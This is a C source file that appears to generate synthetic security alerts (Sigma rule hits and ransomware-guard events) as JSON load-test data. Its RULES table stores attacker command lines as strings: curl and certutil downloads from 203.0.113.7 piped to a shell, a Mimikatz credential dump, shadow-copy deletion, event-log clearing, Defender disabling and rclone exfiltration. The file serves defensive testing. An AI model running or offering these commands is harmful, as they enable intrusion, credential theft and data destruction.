/* alertmix.c - the mixed alert stream of `loadgen run --mix` (see
 * alertmix.h for the episodes). Everything about episode k comes from a hash
 * of k, so a resent alert (same episode, same index) has the same text. */
#include "alertmix.h"

#include <stdio.h>
#include <string.h>

#include "core/json.h"

enum { EP_SIGMA, EP_ACTOR, EP_GUARD, EP_OUTBREAK, EP_DOWN };

static uint64_t hash64(uint64_t x) /* splitmix64's finaliser */
{
    x += 0x9e3779b97f4a7c15ull;
    x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ull;
    x = (x ^ (x >> 27)) * 0x94d049bb133111ebull;
    return x ^ (x >> 31);
}

static uint64_t rnd(uint32_t ep, uint32_t salt)
{
    return hash64(((uint64_t)ep << 24) ^ salt);
}

static int ep_type(uint32_t ep)
{
    unsigned p = (unsigned)(rnd(ep, 1) % 100);
    return p < 60   ? EP_SIGMA
           : p < 84 ? EP_ACTOR
           : p < 90 ? EP_GUARD
           : p < 92 ? EP_OUTBREAK
                    : EP_DOWN;
}

/* ------------------------------------------------------------ texts -- */

static const char *const USERS[] = {"alice",      "bob",  "tanaka",        "suzuki",
                                    "svc_backup", "root", "administrator", "www-data",
                                    "yamamoto",   "chen", "nguyen",        "garcia"};
#define NUSERS (sizeof USERS / sizeof USERS[0])

static const struct rule {
    const char *id, *title, *sev, *exe, *cmd;
} RULES[] = {
    {"c947b146-0abc-4c87-9c64-b17e9d7274a2",
     "Shadow Copies Deletion Using Operating Systems Utilities", "high",
     "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"},
    {"1444443e-6757-43e4-9ea4-c8fc705f79a2", "Boot Configuration Tampering Via Bcdedit.EXE",
     "medium", "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled No"},
    {"cd219ff3-fa99-45d4-8380-a7d15116c6dc", "New User Created Via Net.EXE", "medium",
     "C:\\Windows\\System32\\net.exe", "net user helpdesk P@ssw0rd! /add"},
    {"730fc21b-eaff-474b-ad23-90fd265d4988", "PsExec Service Execution", "medium",
     "C:\\Windows\\PSEXESVC.exe", "PSEXESVC.exe"},
    {"a0d7e0ae-b9e8-4a0e-8a2b-6d0c4c1f1f0a", "Rclone Copy To Cloud Storage", "high",
     "C:\\Users\\Public\\rclone.exe",
     "rclone.exe copy \\\\fs01\\share remote:backup --transfers 16"},
    {"06d71506-7beb-4f22-8888-e2e5e2ca7fd8", "HackTool - Mimikatz Execution", "critical",
     "C:\\Users\\Public\\m.exe", "m.exe privilege::debug sekurlsa::logonpasswords exit"},
    {"92626ddd-662c-49e3-ac59-f6535f12d189", "Scheduled Task Creation Via Schtasks.EXE", "low",
     "C:\\Windows\\System32\\schtasks.exe",
     "schtasks /create /sc minute /mo 30 /tn upd /tr c:\\p\\u.exe"},
    {"ca2092a1-c273-4878-9b4b-0d60115bf5ea", "Suspicious Encoded PowerShell Command Line", "medium",
     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"},
    {"e7be6119-fc37-43f0-ad4f-1f3f99be2f9f", "Event Log Cleared Via Wevtutil", "high",
     "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security"},
    {"f1a0c5f3-4a63-44d8-bc3e-0b2ef4c9a0b1", "SSH Brute Force Attempts", "low", "/usr/sbin/sshd",
     "sshd: [accepted]"},
    {"4a4bd1a3-0e2c-4b8a-9e5b-1a0f6b3e2d11", "Crontab Modified By Non-Root User", "low",
     "/usr/bin/crontab", "crontab -e"},
    {"5ed27ccb-8d3b-4a8d-9f32-4b1f9d0c7e21", "Whoami Execution", "info", "/usr/bin/whoami",
     "whoami"},
    {"9e8f1b3a-6c2d-4e5f-8a7b-3c1d2e4f5a6b", "Curl Output Piped To Shell", "medium",
     "/usr/bin/curl", "curl -fsSL http://203.0.113.7/i.sh | sh"},
    {"b2f2a3c4-d5e6-47f8-9a0b-1c2d3e4f5a6b", "Iptables Rules Flushed", "medium",
     "/usr/sbin/iptables", "iptables -F"},
    {"75df3b17-8bcc-4565-b89b-c9898acef911", "AdFind Discovery Of Domain Objects", "medium",
     "C:\\Users\\Public\\AdFind.exe", "AdFind.exe -f (objectcategory=computer)"},
    {"5f03a6f1-0c3e-4a11-9c1b-0f3d2e1c4b5a", "Domain Trust Discovery Via Nltest", "medium",
     "C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts"},
    {"0b2a9c1e-4d3f-4e5a-8b6c-7d8e9f0a1b2c", "RDP Enabled Via Registry", "medium",
     "C:\\Windows\\System32\\reg.exe",
     "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections "
     "/d 0"},
    {"6e2a1b3c-5d4e-4f6a-9b8c-1d2e3f4a5b6c", "AnyDesk Silent Installation", "medium",
     "C:\\Users\\Public\\AnyDesk.exe", "AnyDesk.exe --install C:\\ProgramData\\AnyDesk --silent"},
    {"13f08f54-e705-4498-91fd-cce9d9cee9f1", "File Download Via Certutil.EXE", "medium",
     "C:\\Windows\\System32\\certutil.exe",
     "certutil -urlcache -split -f http://203.0.113.7/a.bin a.exe"},
    {"c6e9c4a0-7b1d-4e2f-8a3b-5c6d7e8f9a0b", "Security Audit Log Cleared", "high",
     "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k LocalServiceNetworkRestricted"},
    {"7d4e3f2a-1b0c-4d9e-8f7a-6b5c4d3e2f1a", "Local Accounts Discovery", "low",
     "C:\\Windows\\System32\\net.exe", "net localgroup administrators"},
    {"8c1b2a3d-4e5f-4a6b-9c7d-8e9f0a1b2c3d", "Base64 Decoded Payload Executed", "low",
     "/usr/bin/base64", "base64 -d /tmp/.p | bash"},
    {"2b3c4d5e-6f7a-4b8c-9d0e-1f2a3b4c5d6e", "Windows Defender Real-Time Protection Disabled",
     "high", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell Set-MpPreference -DisableRealtimeMonitoring $true"},
    {"3c4d5e6f-7a8b-4c9d-8e0f-2a3b4c5d6e7f", "Service Installed From Temp Folder", "low",
     "C:\\Windows\\System32\\sc.exe", "sc create upd binPath= C:\\Windows\\Temp\\upd.exe"},
};
#define NRULES (sizeof RULES / sizeof RULES[0])

static const char *const ENCRYPTORS[] = {"/tmp/.cache/kworkerd", "C:\\Users\\Public\\svchost32.exe",
                                         "/var/tmp/.x/lb3",      "C:\\ProgramData\\enc.exe",
                                         "/dev/shm/.u/cryptd",   "C:\\Windows\\Temp\\wupd.exe"};
#define NENC (sizeof ENCRYPTORS / sizeof ENCRYPTORS[0])

/* a share, or a user's folder (pre + user + post) */
static const struct {
    const char *pre, *post;
} DIRS[] = {{"/srv/share/finance", NULL}, {"/srv/share/sales", NULL},
            {"/home/", "/Documents"},     {"D:\\Shares\\Engineering", NULL},
            {"C:\\Users\\", "\\Desktop"}, {"/srv/share/hr", NULL}};
static const char *const DOCS[] = {"q3-report", "invoice", "contract",
                                   "drawing",   "budget",  "minutes"};
static const char *const EXTS[] = {"xlsx", "pdf", "docx", "dwg", "pptx", "csv"};
static const char *const INDICATORS[] = {"structured-to-random", "partial-encryption",
                                         "extension-rename",     "ransom-note",
                                         "decoy-touched",        "file-type-broken"};

/* ---------------------------------------------------------- planner -- */

static int site_hosts(const struct mix *m, int site)
{
    return m->sites > 0 ? (m->n - site + m->sites - 1) / m->sites : m->n;
}

static void plan(struct mix *m)
{
    uint32_t ep = m->ep;
    m->type = ep_type(ep);
    m->m = m->j = 0;
    uint64_t r = rnd(ep, 2);
    m->nmem = 1;
    m->mem[0] = (int)(rnd(ep, 3) % (uint64_t)m->n);
    m->per[0] = 1;
    if (m->type == EP_ACTOR)
        m->per[0] = 2 + (int)(r % 7);
    else if (m->type == EP_GUARD)
        m->per[0] = 1 + (int)(r % 3);
    else if (m->type == EP_OUTBREAK) {
        int sites = m->sites > 0 ? m->sites : 1;
        int site = m->mem[0] % sites, cnt = site_hosts(m, site);
        m->nmem = 3 + (int)(r % 4);
        if (m->nmem > cnt)
            m->nmem = cnt;
        for (int k = 0; k < m->nmem; k++) {
            int slot = (int)(rnd(ep, 10 + (uint32_t)k) % (uint64_t)cnt), dup;
            do { /* distinct hosts: probe on */
                dup = 0;
                for (int q = 0; q < k; q++)
                    dup |= m->mem[q] == site + sites * slot;
                if (dup)
                    slot = (slot + 1) % cnt;
            } while (dup);
            m->mem[k] = site + sites * slot;
            m->per[k] = 1 + (int)(rnd(ep, 20 + (uint32_t)k) % 2);
        }
    }
    m->ep_time = m->t0_ms + (int64_t)((double)m->planned * (double)m->span_ms / (double)m->total);
}

void mix_init(struct mix *m, int n, int sites, double days, uint64_t total, int64_t now_ms)
{
    memset(m, 0, sizeof *m);
    m->n = n > 0 ? n : 1;
    m->sites = sites;
    m->total = total ? total : 1;
    m->end_ms = now_ms;
    m->span_ms = (int64_t)(days * 86400000.0);
    m->t0_ms = now_ms - m->span_ms;
    plan(m);
}

bool mix_peek(struct mix *m, int *agent, struct mix_ref *ref)
{
    if (m->planned >= m->total)
        return false;
    int64_t t = m->ep_time + (int64_t)m->m * 75000 + (int64_t)m->j * 30000 +
                (int64_t)(rnd(m->ep, 100 + (uint32_t)(m->m * 8 + m->j)) % 15000);
    *agent = m->mem[m->m];
    *ref = (struct mix_ref){.time_ms = t < m->end_ms ? t : m->end_ms,
                            .ep = m->ep,
                            .j = (uint16_t)m->j,
                            .member = (uint16_t)m->m};
    return true;
}

void mix_take(struct mix *m)
{
    m->planned++;
    if (++m->j < m->per[m->m])
        return;
    m->j = 0;
    if (++m->m < m->nmem)
        return;
    m->ep++;
    plan(m);
}

/* ----------------------------------------------------------- bodies -- */

static void file_path(uint32_t ep, int agent, int i, const char *user, char *out, size_t cap)
{
    uint64_t r = rnd(ep, 300 + (uint32_t)i) ^ (uint64_t)agent;
    char dir[96];
    snprintf(dir, sizeof dir, "%s%s%s", DIRS[r % 6].pre, DIRS[r % 6].post ? user : "",
             DIRS[r % 6].post ? DIRS[r % 6].post : "");
    const char sep = dir[0] == '/' ? '/' : '\\';
    snprintf(out, cap, "%s%c%s-%u.%s", dir, sep, DOCS[(r >> 8) % 6], (unsigned)((r >> 16) % 400),
             EXTS[(r >> 24) % 6]);
}

static void guard_alert(struct jw *w, const struct mix_ref *r, int type, int agent)
{
    /* an outbreak: one program on every host; a single detection: its own */
    uint64_t x = rnd(r->ep, 40) ^ (type == EP_OUTBREAK ? 0 : (uint64_t)agent * 7919);
    const char *exe = ENCRYPTORS[x % NENC], *user = USERS[(x >> 8) % NUSERS];
    unsigned pid = 1000 + (unsigned)((x >> 16) % 60000), start = (unsigned)((x >> 32) % 900000);
    bool kill = (x >> 40) % 4 == 0, alert_only = (x >> 44) % 10 == 0;
    int damaged = 1 + (int)((rnd(r->ep, 41 + r->j) ^ (uint64_t)agent) % 60);
    char key[64], id[64], f0[160], summary[512];
    snprintf(key, sizeof key, "%08x-%u-%u", (unsigned)(x >> 24), pid, start);
    snprintf(id, sizeof id, "%08x-%u-%u-%u", (unsigned)(x >> 24), pid, start, (unsigned)r->j + 1);
    file_path(r->ep, agent, 0, user, f0, sizeof f0);
    const char *verb = alert_only ? "saw (and did not stop, action alert)"
                       : kill     ? "killed"
                                  : "froze";
    snprintf(summary, sizeof summary,
             "the guard %s %s (pid %u, user %s): %d file%s damaged, e.g. %s", verb, exe, pid, user,
             damaged, damaged == 1 ? "" : "s", f0);
    jw_str(w, "kind", "ransomware");
    jw_str(w, "severity", alert_only ? "high" : "critical");
    jw_str(w, "summary", summary);
    jw_str(w, "id", id);
    jw_str(w, "action", alert_only ? "alert" : kill ? "kill" : "freeze");
    jw_str(w, "actor_key", key);
    jw_arr_begin(w, "pids");
    jw_int(w, NULL, pid);
    jw_arr_end(w);
    jw_str(w, "exe", exe);
    jw_str(w, "cmdline", exe);
    jw_str(w, "user", user);
    jw_int(w, "uid", 1000 + (int64_t)((x >> 8) % NUSERS));
    jw_arr_begin(w, "files");
    for (int i = 0; i < (damaged < 5 ? damaged : 5); i++) {
        char f[160];
        file_path(r->ep, agent, i, user, f, sizeof f);
        jw_str(w, NULL, f);
    }
    jw_arr_end(w);
    jw_arr_begin(w, "indicators");
    jw_str(w, NULL, INDICATORS[(x >> 48) % 2]);
    if ((x >> 50) % 2)
        jw_str(w, NULL, INDICATORS[2 + (x >> 52) % 4]);
    jw_arr_end(w);
    jw_int(w, "score", 60 + (int64_t)((x >> 56) % 40));
    jw_int(w, "files_damaged", damaged);
    jw_str(w, "alert_id", id);
}

int mix_frame(const struct mix_ref *r, int agent, uint64_t seq, const char *host_id, char *out,
              size_t cap)
{
    struct jw w;
    jw_init(&w, out, cap);
    jw_obj_begin(&w);
    jw_uint(&w, "seq", seq);
    jw_obj_begin_key(&w, "alert");
    jw_int(&w, "time_ms", r->time_ms);
    int type = ep_type(r->ep);
    if (type == EP_GUARD || type == EP_OUTBREAK) {
        guard_alert(&w, r, type, agent);
    } else if (type == EP_DOWN) {
        char s[200];
        snprintf(s, sizeof s,
                 "the guard stopped on %s (exit status 1): protection was off until "
                 "it was started again",
                 host_id);
        jw_str(&w, "kind", "guard_down");
        jw_str(&w, "severity", "high");
        jw_str(&w, "summary", s);
    } else { /* Sigma: one rule, or one actor over several */
        uint64_t x = rnd(r->ep, 50 + (type == EP_ACTOR ? r->j : 0));
        const struct rule *ru = &RULES[x % NRULES];
        const char *user = USERS[rnd(r->ep, 51) % NUSERS];
        /* one actor: the first rule's program runs the rest */
        const char *exe = type == EP_ACTOR ? RULES[rnd(r->ep, 50) % NRULES].exe : ru->exe;
        char s[400];
        snprintf(s, sizeof s, "Sigma: %s (%s by %s)", ru->title, exe, user);
        jw_str(&w, "kind", "sigma");
        jw_str(&w, "severity", ru->sev);
        jw_str(&w, "summary", s);
        jw_str(&w, "rule_id", ru->id);
        jw_str(&w, "rule_title", ru->title);
        jw_str(&w, "exe", exe);
        jw_str(&w, "cmdline", ru->cmd);
        jw_str(&w, "user", user);
        jw_int(&w, "pid", 1000 + (int64_t)(rnd(r->ep, 52) % 60000));
    }
    jw_obj_end(&w);
    jw_obj_end(&w);
    long n = jw_finish(&w);
    return n < 0 ? -1 : (int)n;
}
